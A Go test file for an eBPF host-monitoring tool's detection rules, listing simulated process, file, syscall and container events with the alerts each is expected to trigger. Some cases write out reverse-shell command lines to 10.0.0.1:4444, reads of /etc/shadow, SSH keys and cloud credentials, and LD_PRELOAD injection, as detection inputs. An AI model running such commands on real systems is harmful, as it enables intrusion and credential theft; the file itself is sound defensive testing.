package rules_test

import (
	"net/netip"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/policy"
	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/record"
	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/rules"
	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/syscalls"
	"github.com/ebpf-log-monitor/ebpf-log-monitor/monitor/watch"
	"golang.org/x/sys/unix"
)

// open(2) flags, as the kernel reports them in File.OpenFlags.
const (
	oWronly = 0o1
	oCreat  = 0o100
	oTrunc  = 0o1000
	oAppend = 0o2000
)

// proc is a process of uid (real and effective) started by parent.
func proc(pid, uid uint32, exe string, args ...string) *record.Process {
	p := &record.Process{PID: pid, TID: pid, PPID: 4000, UID: uid, GID: uid, EUID: uid, EGID: uid,
		Exe: []byte(exe), Ancestry: []record.Ancestor{{PID: 4000, Exe: "/usr/bin/bash"}}}
	for _, a := range args {
		p.Args = append(p.Args, []byte(a))
	}
	return p
}

// withAncestry gives p the ancestors' executables, parent first.
func withAncestry(p *record.Process, exes ...string) *record.Process {
	p.Ancestry = nil
	for i, exe := range exes {
		p.Ancestry = append(p.Ancestry, record.Ancestor{PID: uint32(90 - i), Exe: exe})
	}
	return p
}

// child returns p started by parentExe (pid ppid).
func child(p *record.Process, ppid uint32, parentExe string) *record.Process {
	p.PPID = ppid
	p.Ancestry = []record.Ancestor{{PID: ppid, Exe: parentExe}}
	return p
}

func execRec(p *record.Process, edit ...func(*record.Exec)) record.Record {
	e := &record.Exec{Filename: p.Exe}
	for _, f := range edit {
		f(e)
	}
	return record.Record{Event: "exec", Category: record.CatProcess, Process: p, Exec: e}
}

// openRec is a successful open of a watched path; op is read, write or
// read-write.
func openRec(p *record.Process, path, class, op string, flags uint32) record.Record {
	return record.Record{Event: "open", Category: record.CatFile, Process: p,
		File: &record.File{Path: []byte(path), Operation: op, OpenFlags: flags, FD: 3, Resolved: true,
			Class: class, Watch: path, WatchOwner: -1}}
}

// inHome makes a file record's watch entry a home directory of owner.
func inHome(r record.Record, owner int64) record.Record {
	r.File.WatchOwner = owner
	return r
}

// fileRec is an unlink, rename, truncate ... of a watched path.
func fileRec(p *record.Process, event, path, class string) record.Record {
	return record.Record{Event: event, Category: record.CatFile, Process: p,
		File: &record.File{Path: []byte(path), Operation: event, FD: -1, Class: class, Watch: path, WatchOwner: -1}}
}

// stomped gives a utimes record the modification time it set.
func stomped(r record.Record, mtime time.Time) record.Record {
	r.File.MTimeSet = mtime
	return r
}

// inContainer puts a record's process in a docker container.
func inContainer(r record.Record) record.Record {
	r.Container = &record.Container{ID: strings.Repeat("ab", 32), Runtime: "docker", Name: "web-1", Image: "debian:bookworm"}
	return r
}

// execd marks an exec as put in its container from outside it (docker
// exec's), with its pid there.
func execd(r record.Record, vpid uint32) record.Record {
	r.Process.VPID, r.Process.PidNS, r.Process.ParentOutsideNS = vpid, 4026532183, true
	return r
}

// requested sets the path string a file record's process passed.
func requested(r record.Record, path string) record.Record {
	r.File.RequestedPath = []byte(path)
	return r
}

// building marks a record's container as a docker build step.
func building(r record.Record) record.Record {
	r.Container.Build = true
	return r
}

// healthcheck marks an exec as the container's health check.
func healthcheck(r record.Record) record.Record {
	r.Exec.Healthcheck = true
	return r
}

// upper marks an exec's executable as in an overlay's upper layer.
func upper(r record.Record) record.Record {
	r.Exec.ExeUpperLayer = true
	return r
}

// risky gives a record's container risks.
func risky(r record.Record, risks ...string) record.Record {
	r.Container.Risks = risks
	return r
}

// created marks an open record as the one that made the file.
func created(r record.Record) record.Record {
	r.File.Created = true
	return r
}

// preload sets an exec's LD_PRELOAD value.
func preload(v string) func(*record.Exec) {
	return func(e *record.Exec) { e.LDPreload, e.LDPreloadValue = true, []byte(v) }
}

// underScript gives p a parent that runs script (fakeroot's shell script).
// runsScript makes p an interpreter running script.
func runsScript(p *record.Process, script string) *record.Process {
	p.Script = []byte(script)
	return p
}

func underScript(p *record.Process, script string) *record.Process {
	p.Ancestry = append([]record.Ancestor{{PID: 90, Exe: "/usr/bin/dash", Script: script}}, p.Ancestry...)
	return p
}

// withMode gives an open the mode it asked for (O_CREAT).
func withMode(r record.Record, mode uint32) record.Record {
	r.File.Mode, r.File.HasMode = mode, true
	return r
}

// setnsRec is a successful setns(CLONE_NEWNS) into a host namespace or not.
func setnsRec(p *record.Process, host bool) record.Record {
	r := sysRec(p, "setns", 0, arg("nstype", []string{"CLONE_NEWNS"}))
	other := true
	r.Syscall.EntersOtherNamespace, r.Syscall.EntersHostNamespace = &other, &host
	return r
}

// inMntNS puts p in a mount namespace that is not the host's.
func inMntNS(p *record.Process, ns uint32) *record.Process {
	p.MntNS = ns
	return p
}

func chmodRec(p *record.Process, path string, mode uint32) record.Record {
	r := fileRec(p, "chmod", path, "")
	r.File.Mode, r.File.HasMode = mode, true
	return r
}

func sysRec(p *record.Process, name string, target uint32, args ...record.Arg) record.Record {
	return record.Record{Event: name, Category: record.CatSyscall, Process: p,
		Syscall: &record.Syscall{Name: name, Args: args, TargetPID: target}}
}

func arg(k string, v any) record.Arg { return record.Arg{Key: k, Value: v} }

// callRec is a syscall record as the processor builds it: the raw
// arguments, which the rules read, and the decoded ones, which people read.
func callRec(p *record.Process, nr uint32, target uint32, raw ...uint64) record.Record {
	spec := syscalls.Lookup(nr)
	c := syscalls.Call{}
	copy(c.Args[:], raw)
	s := &record.Syscall{Name: spec.Name, Nr: nr, Group: spec.Group, Args: spec.Decode(&c), Raw: c.Args, TargetPID: target}
	return record.Record{Event: spec.Name, Category: record.CatSyscall, Process: p, Syscall: s}
}

// fromPipe, toPipe: the program at the other end of an exec's stdin or
// stdout pipe (process.exe, args...; toPipe also its script).
func fromPipe(exe string, args ...string) func(*record.Exec) {
	return func(x *record.Exec) { x.StdinFrom = pipeEnd(exe, "", args) }
}

func toPipe(exe, script string, args ...string) func(*record.Exec) {
	return func(x *record.Exec) { x.StdoutTo = pipeEnd(exe, script, args) }
}

func pipeEnd(exe, script string, args []string) *record.PipeEnd {
	p := &record.PipeEnd{PID: 300, Exe: exe, Script: script}
	for _, a := range args {
		p.Args = append(p.Args, []byte(a))
	}
	return p
}

// atDaemon makes a kill record aimed at an audit or logging daemon, not
// at the monitor (the kernel reports only those two).
func atDaemon(r record.Record) record.Record {
	no := false
	r.Syscall.TargetIsMonitor = &no
	return r
}

// added gives a change of /etc/passwd the accounts the processor found it
// added (accounts.go).
func added(r record.Record, accts ...record.Account) record.Record {
	r.File.AccountsAdded = accts
	return r
}

// tried gives a connect the fan-out the processor counts (fanout.go).
func tried(r record.Record, ports, hosts int) record.Record {
	r.Network.PortsTried, r.Network.HostsTried = ports, hosts
	return r
}

// ofDescendant makes a syscall record's target the caller's own child.
func ofDescendant(r record.Record) record.Record {
	r.Syscall.TargetIsDescendant = true
	return r
}

// auditRec is a message to the audit system; enabled and pid -1 when it
// does not set them.
func auditRec(p *record.Process, typ string, enabled, pid int64) record.Record {
	return record.Record{Event: "send", Category: record.CatNetwork, Process: p,
		Network: &record.Network{Family: "netlink", Protocol: "audit", Direction: "outbound", Sources: []string{"syscall"},
			Audit: &record.AuditMessage{Type: typ, Enabled: enabled, Failure: -1, PID: pid, RateLim: -1}}}
}

func connectRec(p *record.Process, dst netip.Addr, port uint16) record.Record {
	return record.Record{Event: "connect", Category: record.CatNetwork, Process: p,
		Network: &record.Network{Family: "inet", Protocol: "tcp", SrcIP: localhost, SrcPort: 40000,
			DstIP: dst, DstPort: port, Direction: "outbound", DstScope: scopeOf(dst), Sources: []string{"syscall"}}}
}

// scopeOf is the processor's placement (netinfo.Scope) for a host whose
// only addresses are loopback ones.
func scopeOf(ip netip.Addr) string {
	if ip.Unmap().IsLoopback() {
		return "loopback"
	}
	return "remote"
}

func connectUnixRec(p *record.Process, path string) record.Record {
	return record.Record{Event: "connect", Category: record.CatNetwork, Process: p,
		Network: &record.Network{Family: "unix", UnixPath: []byte(path), Direction: "outbound",
			Sources: []string{"syscall"}}}
}

func listenRec(p *record.Process, port uint16) record.Record {
	return record.Record{Event: "listen", Category: record.CatNetwork, Process: p,
		Network: &record.Network{Family: "inet", Protocol: "tcp", SrcIP: anyAddr, SrcPort: port,
			Direction: "listen", Backlog: 128, Sources: []string{"syscall"}}}
}

func failed(r record.Record, errno string) record.Record {
	r.Error = errno
	return r
}

func privRec(p *record.Process, priv record.Privilege) record.Record {
	return record.Record{Event: "privilege", Category: record.CatPrivilege, Process: p, Priv: &priv}
}

var (
	user1000 = record.Creds{UID: 1000, EUID: 1000, SUID: 1000, FSUID: 1000, GID: 1000, EGID: 1000, SGID: 1000, FSGID: 1000}
	allRoot  = record.Creds{}
)

type ruleCase struct {
	rule string // the rule the case is about
	name string
	rec  record.Record
	want []string // every rule that must match, in Builtin order
}

func ruleCases() []ruleCase {
	const (
		alice  = 1000
		bob    = 1001
		nobody = 65534
	)
	self := os.Getpid()
	return []ruleCase{
		// credential-read
		{"credential-read", "cat reading /etc/shadow",
			openRec(proc(100, 0, "/usr/bin/cat", "cat", "/etc/shadow"), "/etc/shadow", watch.ClassCredentials, "read", 0),
			[]string{"credential-read"}},
		{"credential-read", "sudo reading /etc/shadow is allowlisted",
			openRec(proc(100, 1000, "/usr/bin/sudo", "sudo", "id"), "/etc/shadow", watch.ClassCredentials, "read", 0),
			nil},
		{"credential-read", "another user reading alice's private key",
			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), alice),
			[]string{"credential-read"}},
		{"credential-read", "root reading alice's private key",
			inHome(openRec(proc(100, 0, "/usr/bin/cat"), "/home/alice/.ssh/id_ed25519", watch.ClassSSH, "read", 0), alice),
			[]string{"credential-read"}},
		{"credential-read", "alice reading her own private key",
			inHome(openRec(proc(100, alice, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), alice),
			nil},
		{"credential-read", "another user reading alice's public key",
			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa.pub", watch.ClassSSH, "read", 0), alice),
			nil},
		{"credential-read", "another user reading alice's known_hosts",
			inHome(openRec(proc(100, bob, "/usr/bin/cat"), "/home/alice/.ssh/known_hosts", watch.ClassSSH, "read", 0), alice),
			nil},
		{"credential-read", "failed read of /etc/shadow still counts",
			failed(openRec(proc(100, 1000, "/usr/bin/cat"), "/etc/shadow", watch.ClassCredentials, "read", 0), "EACCES"),
			[]string{"credential-read"}},

		// persistence-write
		{"persistence-write", "bash writing root's crontab",
			openRec(proc(100, 0, "/usr/bin/bash"), "/var/spool/cron/crontabs/root", watch.ClassPersistence, "write", oWronly|oCreat|oTrunc),
			[]string{"persistence-write"}},
		// cloud-credential-read
		{"cloud-credential-read", "cat reading a user's AWS credentials",
			inHome(openRec(proc(100, alice, "/usr/bin/cat"), "/home/alice/.aws/credentials", watch.ClassCloudCreds, "read", 0), alice),
			[]string{"cloud-credential-read"}},
		{"cloud-credential-read", "a python script reading a kube config",
			inHome(openRec(runsScript(proc(100, alice, "/usr/bin/python3.11"), "/tmp/harvest.py"), "/home/alice/.kube/config", watch.ClassCloudCreds, "read", 0), alice),
			[]string{"cloud-credential-read"}},
		{"cloud-credential-read", "git reading its credential store",
			inHome(openRec(proc(100, alice, "/usr/lib/git-core/git", "git", "credential-store", "get"), "/home/alice/.git-credentials", watch.ClassCloudCreds, "read", 0), alice),
			nil},
		{"cloud-credential-read", "the aws CLI (a python script) reading its credentials",
			inHome(openRec(runsScript(proc(100, alice, "/usr/bin/python3.11"), "/usr/bin/aws"), "/home/alice/.aws/credentials", watch.ClassCloudCreds, "read", 0), alice),
			nil},
		{"cloud-credential-read", "an editor writing AWS credentials",
			inHome(openRec(proc(100, alice, "/usr/bin/vi"), "/home/alice/.aws/credentials", watch.ClassCloudCreds, "write", oWronly|oTrunc), alice),
			nil},

		// the tool is how cron persistence is installed: its effect is judged
		{"persistence-write", "crontab installing root's crontab",
			openRec(proc(100, 0, "/usr/bin/crontab", "crontab", "-"), "/var/spool/cron/crontabs/root", watch.ClassPersistence, "write", oWronly|oCreat|oTrunc),
			[]string{"persistence-write"}},
		{"persistence-write", "crontab -l reading root's crontab",
			openRec(proc(100, 0, "/usr/bin/crontab", "crontab", "-l"), "/var/spool/cron/crontabs/root", watch.ClassPersistence, "read", 0),
			nil},
		{"persistence-write", "dpkg writing a systemd unit is allowlisted",
			openRec(proc(100, 0, "/usr/bin/dpkg"), "/etc/systemd/system/x.service", watch.ClassPersistence, "write", oWronly|oCreat),
			nil},
		{"persistence-write", "tee writing a systemd unit",
			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/systemd/system/x.service", watch.ClassPersistence, "write", oWronly|oCreat),
			[]string{"persistence-write"}},
		{"persistence-write", "reading a systemd unit",
			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/systemd/system/x.service", watch.ClassPersistence, "read", 0),
			nil},
		{"persistence-write", "a key appended to authorized_keys",
			inHome(openRec(proc(100, bob, "/usr/bin/tee"), "/home/alice/.ssh/authorized_keys", watch.ClassSSH, "write", oWronly|oAppend), alice),
			[]string{"persistence-write"}},
		{"persistence-write", "a file renamed onto authorized_keys",
			func() record.Record {
				r := inHome(fileRec(proc(100, alice, "/usr/bin/mv"), "rename", "/home/alice/.ssh/k.tmp", watch.ClassSSH), alice)
				r.File.TargetPath = []byte("/home/alice/.ssh/authorized_keys")
				return r
			}(),
			[]string{"persistence-write"}},

		// preload-injection
		{"preload-injection", "/etc/ld.so.preload written",
			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/ld.so.preload", watch.ClassPreload, "write", oWronly|oCreat|oTrunc),
			[]string{"preload-injection"}},
		{"preload-injection", "/etc/ld.so.preload read",
			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/ld.so.preload", watch.ClassPreload, "read", 0),
			nil},
		{"preload-injection", "a program started with LD_PRELOAD",
			execRec(proc(100, alice, "/usr/bin/ls", "ls"), preload("/tmp/libx.so")),
			[]string{"preload-injection"}},
		{"preload-injection", "fakeroot's library under fakeroot (Debian packaging)",
			execRec(underScript(proc(100, alice, "/usr/bin/ls", "ls"), "/usr/bin/fakeroot-sysv"), preload("libfakeroot-sysv.so")),
			nil},
		{"preload-injection", "fakeroot's library by path under fakeroot",
			execRec(underScript(proc(100, alice, "/usr/bin/ls", "ls"), "/usr/bin/fakeroot-tcp"), preload("/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-tcp.so")),
			nil},
		{"preload-injection", "fakeroot's library name without fakeroot (LD_LIBRARY_PATH could point anywhere)",
			execRec(proc(100, alice, "/usr/bin/ls", "ls"), preload("libfakeroot-sysv.so")),
			[]string{"preload-injection"}},
		{"preload-injection", "another library beside fakeroot's, under fakeroot",
			execRec(underScript(proc(100, alice, "/usr/bin/ls", "ls"), "/usr/bin/fakeroot-sysv"), preload("libfakeroot-sysv.so:/tmp/evil.so")),
			[]string{"preload-injection"}},
		{"preload-injection", "a failed exec with LD_PRELOAD",
			execRec(proc(100, alice, "/usr/bin/ls", "ls"), func(e *record.Exec) { e.LDPreload, e.Ret = true, -2 }),
			nil},
		{"preload-injection", "a dropped binary run with LD_PRELOAD: the highest severity wins",
			execRec(proc(100, alice, "/tmp/x", "/tmp/x"), preload("/tmp/x.so")),
			[]string{"preload-injection", "exec-from-writable-dir"}},

		// shell-from-service
		{"shell-from-service", "bash started by sshd",
			execRec(child(proc(100, alice, "/usr/bin/bash", "-bash"), 90, "/usr/sbin/sshd")),
			nil},
		{"shell-from-service", "bash started by nginx",
			execRec(child(proc(100, 33, "/usr/bin/bash", "sh", "-c", "id"), 90, "/usr/sbin/nginx")),
			[]string{"shell-from-service"}},
		{"shell-from-service", "python started by php-fpm8.2",
			execRec(child(proc(100, 33, "/usr/bin/python3", "python3"), 90, "/usr/sbin/php-fpm8.2")),
			[]string{"shell-from-service"}},
		{"shell-from-service", "a non-shell started by nginx",
			execRec(child(proc(100, 33, "/usr/bin/gzip", "gzip"), 90, "/usr/sbin/nginx")),
			nil},

		// reverse-shell
		{"reverse-shell", "a shell whose stdio are sockets",
			execRec(proc(100, alice, "/usr/bin/bash", "bash"), func(e *record.Exec) { e.StdioSockets = []string{"stdin", "stdout", "stderr"} }),
			[]string{"reverse-shell"}},
		{"reverse-shell", "a shell with no stdio sockets and a plain command line",
			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "ls -l /srv")),
			nil},
		{"reverse-shell", "a non-shell whose stdio is a socket (inetd style)",
			execRec(proc(100, alice, "/usr/bin/cat", "cat"), func(e *record.Exec) { e.StdioSockets = []string{"stdin"} }),
			nil},
		{"reverse-shell", "bash -i redirected to /dev/tcp",
			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
			[]string{"reverse-shell"}},
		{"reverse-shell", "nc -e /bin/sh",
			execRec(proc(100, alice, "/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh")),
			[]string{"reverse-shell"}},
		{"reverse-shell", "nc listening on a port",
			execRec(proc(100, alice, "/usr/bin/nc", "nc", "-l", "8080")),
			nil},
		{"reverse-shell", "echo cmd | bash -i: a pipe, not a socket",
			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "echo id | bash -i")),
			[]string{"network-code-in-command-line"}},

		// network-code-in-command-line (info: a weak signal)
		{"network-code-in-command-line", "python asking for its host name through socket",
			execRec(proc(100, alice, "/usr/bin/python3", "python3", "-c", "import socket; print(socket.getfqdn())")),
			[]string{"network-code-in-command-line"}},
		{"network-code-in-command-line", "python printing",
			execRec(proc(100, alice, "/usr/bin/python3", "python3", "-c", "print(42)")),
			nil},

		// exec-from-writable-dir
		{"exec-from-writable-dir", "a program from /usr/bin",
			execRec(proc(100, alice, "/usr/bin/ls", "ls")),
			nil},
		{"exec-from-writable-dir", "a program from /tmp",
			execRec(proc(100, alice, "/tmp/x", "/tmp/x")),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "a program from /dev/shm",
			execRec(proc(100, alice, "/dev/shm/x", "x")),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "a program from /var/tmp",
			execRec(proc(100, alice, "/var/tmp/x", "x")),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "a memfd",
			execRec(proc(100, alice, "/memfd:x", "x"), func(e *record.Exec) { e.ExeDeleted = true }),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "a deleted binary",
			execRec(proc(100, alice, "/usr/local/bin/tool", "tool"), func(e *record.Exec) { e.ExeDeleted = true }),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "go run's program in the build cache",
			execRec(child(proc(100, alice, "/tmp/go-build2754/b001/exe/main"), 90, "/usr/lib/go-1.23/bin/go")),
			nil},
		{"exec-from-writable-dir", "a program in a go-build-like directory started by bash",
			execRec(child(proc(100, alice, "/tmp/go-build2754/b001/exe/main"), 90, "/usr/bin/bash")),
			[]string{"exec-from-writable-dir"}},
		{"exec-from-writable-dir", "a failed exec from /tmp",
			execRec(proc(100, alice, "/usr/bin/bash", "bash"), func(e *record.Exec) { e.Filename, e.Ret = []byte("/tmp/x"), -13 }),
			nil},

		// privilege-escalation and privilege-gain
		{"privilege-escalation", "root with no explanation",
			privRec(proc(100, 0, "/usr/bin/python3"), record.Privilege{Means: "unexplained", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
			[]string{"privilege-escalation"}},
		{"privilege-escalation", "setuid(0) by a non-helper",
			privRec(proc(100, 0, "/usr/bin/python3"), record.Privilege{Means: "syscall", Syscall: "setuid", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
			[]string{"privilege-escalation"}},
		{"privilege-escalation", "a set-uid binary in /tmp",
			privRec(proc(100, 0, "/tmp/rootshell"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
			[]string{"privilege-escalation"}},
		{"privilege-escalation", "sudo's set-uid exec",
			privRec(proc(100, 0, "/usr/bin/sudo"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
			nil},
		{"privilege-gain", "another root-owned set-uid binary in /usr/bin",
			privRec(proc(100, 0, "/usr/bin/newuidmap"), record.Privilege{Means: "exec", Before: user1000, After: allRoot, Gained: []string{"euid 0"}, ExeUID: 0, ExeMode: 0o104755}),
			[]string{"privilege-gain"}},
		{"privilege-gain", "a user namespace's root mounting",
			privRec(proc(100, alice, "/usr/bin/unshare"), record.Privilege{Means: "userns", Syscall: "mount", Before: user1000, After: user1000, ExeUID: -1}),
			[]string{"privilege-gain"}},
		{"privilege-gain", "setuid(0) by sudo",
			privRec(proc(100, 0, "/usr/bin/sudo"), record.Privilege{Means: "syscall", Syscall: "setresuid", Before: user1000, After: allRoot, Gained: []string{"uid 0"}, ExeUID: -1}),
			nil},

		// setuid-bit-set
		{"setuid-bit-set", "chmod 0755",
			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "755", "x"), "/home/alice/x", 0o755),
			nil},
		{"setuid-bit-set", "chmod 04755",
			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "4755", "x"), "/home/alice/x", 0o4755),
			[]string{"setuid-bit-set"}},
		{"setuid-bit-set", "chmod 02755",
			chmodRec(proc(100, alice, "/usr/bin/chmod", "chmod", "2755", "x"), "/home/alice/x", 0o2755),
			[]string{"setuid-bit-set"}},
		{"setuid-bit-set", "dpkg installing a set-uid binary is allowlisted",
			chmodRec(proc(100, 0, "/usr/bin/dpkg"), "/usr/bin/newuidmap", 0o4755),
			nil},

		// package-manager-in-container
		{"package-manager-in-container", "apt-get install in a running container",
			inContainer(execRec(proc(100, 0, "/usr/bin/apt-get", "apt-get", "install", "-y", "curl"))),
			[]string{"package-manager-in-container"}},
		{"package-manager-in-container", "pip (a python script) in a running container",
			inContainer(execRec(runsScript(proc(100, 0, "/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/pip", "install", "x"), "/usr/bin/pip"))),
			[]string{"package-manager-in-container"}},
		{"package-manager-in-container", "dpkg run by apt-get in a container: the same change, alerted once",
			inContainer(execRec(child(proc(101, 0, "/usr/bin/dpkg", "dpkg", "--unpack", "x.deb"), 100, "/usr/bin/apt-get"))),
			nil},
		{"package-manager-in-container", "apt-get install on the host",
			execRec(proc(100, 0, "/usr/bin/apt-get", "apt-get", "install", "-y", "curl")),
			nil},
		{"package-manager-in-container", "cat in a running container",
			inContainer(execRec(proc(100, 0, "/bin/busybox", "cat", "/etc/os-release"))),
			nil},

		// shell-in-container: the kernel says the parent is outside the
		// container's pid namespace; the entrypoint is pid 1 there
		{"shell-in-container", "docker exec -it web-1 bash",
			execd(inContainer(execRec(proc(100, 0, "/usr/bin/bash", "bash"))), 7),
			[]string{"shell-in-container"}},
		{"shell-in-container", "docker exec web-1 sh -c id (busybox)",
			execd(inContainer(execRec(proc(100, 0, "/bin/busybox", "sh", "-c", "id"))), 12),
			[]string{"shell-in-container"}},
		{"shell-in-container", "the entrypoint is a shell (docker run img sh -c ...)",
			execd(inContainer(execRec(proc(100, 0, "/bin/sh", "sh", "-c", "exec nginx"))), 1),
			nil},
		{"shell-in-container", "a shell the container's own process started",
			inContainer(execRec(proc(100, 0, "/bin/sh", "sh", "-c", "date"))),
			nil},
		{"shell-in-container", "the health check's sh -c",
			healthcheck(execd(inContainer(execRec(proc(100, 0, "/bin/sh", "/bin/sh", "-c", "wget -q -O- localhost"))), 30)),
			nil},
		{"shell-in-container", "docker exec of a program that is no shell",
			execd(inContainer(execRec(proc(100, 0, "/usr/bin/env", "env"))), 7),
			nil},

		// container-drift: the kernel says where the executable lives
		{"container-drift", "a binary copied to /tmp in the container and run",
			upper(inContainer(execRec(proc(100, 0, "/tmp/bb", "/tmp/bb", "true")))),
			[]string{"exec-from-writable-dir", "container-drift"}},
		{"container-drift", "a program made executable in /usr/local/bin after the start",
			upper(inContainer(execRec(proc(100, 0, "/usr/local/bin/tool", "tool")))),
			[]string{"container-drift"}},
		{"container-drift", "a docker build step running what it just installed",
			building(upper(inContainer(execRec(proc(100, 0, "/usr/local/bin/tool", "tool"))))),
			nil},
		{"container-drift", "the image's own program",
			inContainer(execRec(proc(100, 0, "/usr/local/bin/tool", "tool"))),
			nil},
		{"container-drift", "a program written on the host (no container)",
			upper(execRec(proc(100, 0, "/usr/local/bin/tool", "tool"))),
			nil},

		// dangerous-container: the API's configuration, in words
		{"dangerous-container", "started with the docker socket mounted",
			risky(inContainer(record.Record{Event: "container_start", Category: record.CatContainer}), "runtime socket /var/run/docker.sock mounted"),
			[]string{"dangerous-container"}},
		{"dangerous-container", "an ordinary container's start",
			inContainer(record.Record{Event: "container_start", Category: record.CatContainer}),
			nil},

		// timestomp: the kernel reports only explicit times from a process
		// that created nothing; the rule reads the times
		{"timestomp", "touch -d 2001-01-01 on a file someone else made",
			stomped(fileRec(proc(100, alice, "/usr/bin/touch", "touch", "-d", "2001-01-01", "x"), "utimes", "/home/alice/x", ""),
				time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)),
			[]string{"timestomp"}},
		{"timestomp", "touch -m (now): no time was set",
			fileRec(proc(100, alice, "/usr/bin/touch", "touch", "-m", "x"), "utimes", "/home/alice/x", ""),
			nil},

		// hidden-file-in-temp: the kernel reports only creations there
		{"hidden-file-in-temp", "mkdir /tmp/.cache-x",
			fileRec(proc(100, alice, "/usr/bin/mkdir", "mkdir", "/tmp/.cache-x"), "mkdir", "/tmp/.cache-x", "hidden-files"),
			[]string{"hidden-file-in-temp"}},
		{"hidden-file-in-temp", "a file created in /dev/shm/.x/",
			created(openRec(proc(100, alice, "/usr/bin/python3"), "/dev/shm/.x/payload", "hidden-files", "write", oWronly|oCreat)),
			[]string{"hidden-file-in-temp"}},
		{"hidden-file-in-temp", "the X server's socket directory",
			fileRec(proc(100, 0, "/usr/bin/systemd-tmpfiles"), "mkdir", "/tmp/.X11-unix", "hidden-files"),
			nil},
		{"hidden-file-in-temp", "Xorg's display lock",
			created(openRec(proc(100, 0, "/usr/lib/xorg/Xorg"), "/tmp/.X0-lock", "hidden-files", "write", oWronly|oCreat)),
			nil},
		{"hidden-file-in-temp", "chromium's shared memory",
			created(openRec(proc(100, alice, "/usr/lib/chromium/chromium"), "/dev/shm/.org.chromium.Chromium.Xa9f3k", "hidden-files", "read-write", oCreat)),
			nil},
		{"hidden-file-in-temp", "a dot name made to look like the X lock",
			created(openRec(proc(100, alice, "/usr/bin/python3"), "/tmp/.X0-lock.d/payload", "hidden-files", "write", oWronly|oCreat)),
			[]string{"hidden-file-in-temp"}},
		{"hidden-file-in-temp", "vim's swap file beside /tmp/notes",
			created(openRec(proc(100, alice, "/usr/bin/vim.basic", "vim", "/tmp/notes"), "/tmp/.notes.swp", "hidden-files", "read-write", oCreat)),
			nil},
		{"hidden-file-in-temp", "a path through /tmp/.. is no dot name",
			fileRec(proc(100, alice, "/usr/bin/mkdir", "mkdir", "/tmp/../home/alice/d"), "mkdir", "/tmp/../home/alice/d", "hidden-files"),
			nil},

		// kernel-code-load
		{"kernel-code-load", "bpf BPF_PROG_GET_NEXT_ID",
			callRec(proc(100, 0, "/usr/sbin/bpftool"), unix.SYS_BPF, 0, unix.BPF_PROG_GET_NEXT_ID),
			nil},
		{"kernel-code-load", "bpf BPF_PROG_LOAD",
			callRec(proc(100, 0, "/usr/local/bin/loader"), unix.SYS_BPF, 0, unix.BPF_PROG_LOAD),
			[]string{"kernel-code-load"}},
		{"kernel-code-load", "finit_module",
			sysRec(proc(100, 0, "/usr/local/bin/loader"), "finit_module", 0, arg("file", "/usr/lib/modules/6.1.0/kernel/x.ko")),
			[]string{"kernel-code-load"}},
		{"kernel-code-load", "kexec_file_load",
			sysRec(proc(100, 0, "/usr/local/bin/loader"), "kexec_file_load", 0),
			[]string{"kernel-code-load"}},
		{"kernel-code-load", "modprobe's finit_module is allowlisted",
			sysRec(proc(100, 0, "/usr/sbin/modprobe", "modprobe", "nf_tables"), "finit_module", 0, arg("file", "/usr/lib/modules/6.1.0/kernel/nf_tables.ko")),
			nil},

		// module-from-unusual-path
		{"module-from-unusual-path", "insmod of a module in /tmp",
			sysRec(proc(100, 0, "/usr/bin/kmod", "insmod", "/tmp/x.ko"), "finit_module", 0, arg("file", "/tmp/x.ko")),
			[]string{"module-from-unusual-path"}},
		{"module-from-unusual-path", "insmod of a module in /tmp, refused",
			failed(sysRec(proc(100, 0, "/usr/bin/kmod", "insmod", "/tmp/x.ko"), "finit_module", 0, arg("file", "/tmp/x.ko")), "ENOEXEC"),
			[]string{"module-from-unusual-path"}},
		{"module-from-unusual-path", "modprobe of an installed module",
			sysRec(proc(100, 0, "/usr/bin/kmod", "modprobe", "dummy"), "finit_module", 0, arg("file", "/usr/lib/modules/6.1.0/kernel/drivers/net/dummy.ko")),
			nil},
		{"module-from-unusual-path", "init_module from memory by a loader of its own",
			sysRec(proc(100, 0, "/root/loader"), "init_module", 0, arg("params", "")),
			[]string{"module-from-unusual-path", "kernel-code-load"}},
		{"module-from-unusual-path", "init_module by modprobe (a compressed module)",
			sysRec(proc(100, 0, "/usr/bin/kmod", "modprobe", "dummy"), "init_module", 0, arg("params", "")),
			nil},

		// setuid-root-refused
		{"setuid-root-refused", "nobody refused setuid(0)",
			failed(callRec(proc(100, nobody, "/tmp/x"), unix.SYS_SETUID, 0, 0), "EPERM"),
			[]string{"setuid-root-refused"}},
